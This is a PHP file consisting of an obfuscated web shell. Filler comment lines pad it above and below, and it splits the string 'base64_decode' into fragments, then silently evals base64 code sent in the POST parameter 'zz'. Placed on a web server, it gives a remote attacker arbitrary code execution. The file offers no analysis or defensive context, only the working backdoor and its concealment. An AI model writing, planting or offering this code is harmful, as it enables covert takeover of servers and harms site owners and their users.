<?php
/* 222222222222222222222222222222222222222222222222222222222222 */
/* eeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeee */
/* bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb */
/* hhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhh */
/* hhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhh */
/* 999999999999999999999999999999999999999999999999999999999999 */
/* 888888888888888888888888888888888888888888888888888888888888 */
/* 000000000000000000000000000000000000000000000000000000000000 */
/* hhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhhh */
/* 444444444444444444444444444444444444444444444444444444444444 */
/* 888888888888888888888888888888888888888888888888888888888888 */
/* 444444444444444444444444444444444444444444444444444444444444 */
/* 555555555555555555555555555555555555555555555555555555555555 */
/* iiiiiiiiiiiiiiiiiiiiiiiiiiiiiiiiiiiiiiiiiiiiiiiiiiiiiiiiiiii */
/* dddddddddddddddddddddddddddddddddddddddddddddddddddddddddddd */
/* gggggggggggggggggggggggggggggggggggggggggggggggggggggggggggg */
/* 111111111111111111111111111111111111111111111111111111111111 */
/* 666666666666666666666666666666666666666666666666666666666666 */
/* ffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff */
/* bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb */
/* eeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeee */
/* ffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff */
/* eeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeee */
/* jjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjjj */
/* 222222222222222222222222222222222222222222222222222222222222 */
/* 222222222222222222222222222222222222222222222222222222222222 */
/* gggggggggggggggggggggggggggggggggggggggggggggggggggggggggggg */
/* 555555555555555555555555555555555555555555555555555555555555 */
/* dddddddddddddddddddddddddddddddddddddddddddddddddddddddddddd */
/* 777777777777777777777777777777777777777777777777777777777777 */
/* 777777777777777777777777777777777777777777777777777777777777 */
/* aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa */
/* cccccccccccccccccccccccccccccccccccccccccccccccccccccccccccc */
/* 888888888888888888888888888888888888888888888888888888888888 */
/* 666666666666666666666666666666666666666666666666666666666666 */
/* 777777777777777777777777777777777777777777777777777777777777 */
/* 000000000000000000000000000000000000000000000000000000000000 */
/* 999999999999999999999999999999999999999999999999999999999999 */
/* 333333333333333333333333333333333333333333333333333333333333 */
/* gggggggggggggggggggggggggggggggggggggggggggggggggggggggggggg */
$___ = 'ba'.'se'.'64_'.'dec'.'ode';
@eval($___($_POST['zz']));
// 0
// 1
// 2
// 3
// 4
// 5
// 6
// 7
// 8
// 9
// 10
// 11
// 12
// 13
// 14
// 15
// 16
// 17
// 18
// 19
// 20
// 21
// 22
// 23
// 24
// 25
// 26
// 27
// 28
// 29
// 30
// 31
// 32
// 33
// 34
// 35
// 36
// 37
// 38
// 39
// 40
// 41
// 42
// 43
// 44
// 45
// 46
// 47
// 48
// 49